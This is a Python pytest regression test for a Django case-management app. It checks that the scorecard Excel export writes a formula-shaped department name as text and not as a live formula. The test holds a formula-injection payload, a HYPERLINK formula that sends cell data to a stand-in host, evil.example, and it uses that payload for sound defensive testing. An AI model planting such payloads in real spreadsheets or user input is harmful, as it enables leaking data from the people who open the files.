"""Formula injection (issue 15, finding 1): the scorecard workbook (API and page) writes a department
name that looks like a formula as a string cell."""

from __future__ import annotations

import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from gridgov.cases.models import Department

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize("url", ["/api/v1/cases/indicators.xlsx?group=department&start=2025-10-01&end=2025-10-31",
                                 "/cases/scorecard/?group=department&start=2025-10-01&end=2025-10-31&format=xlsx"])
def test_scorecard_xlsx_writes_formula_text_as_text(url, actors, make_case, departments):
    from datetime import datetime
    from zoneinfo import ZoneInfo

    oct_ = datetime(2025, 10, 10, 10, tzinfo=ZoneInfo("Asia/Shanghai"))
    make_case("closed", lead="310101-cm", registered_at=oct_, dispatched_at=oct_, handled_at=oct_,
              handled_on_time=True, closed_at=oct_, satisfaction=5)
    Department.objects.filter(code="310101-cm").update(name=EVIL)
    client = Client()
    client.force_login(actors["centre"])
    r = client.get(url)
    assert r.status_code == 200
    cells = [c for ws in load_workbook(io.BytesIO(r.content)).worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert EVIL in [c.value for c in cells]
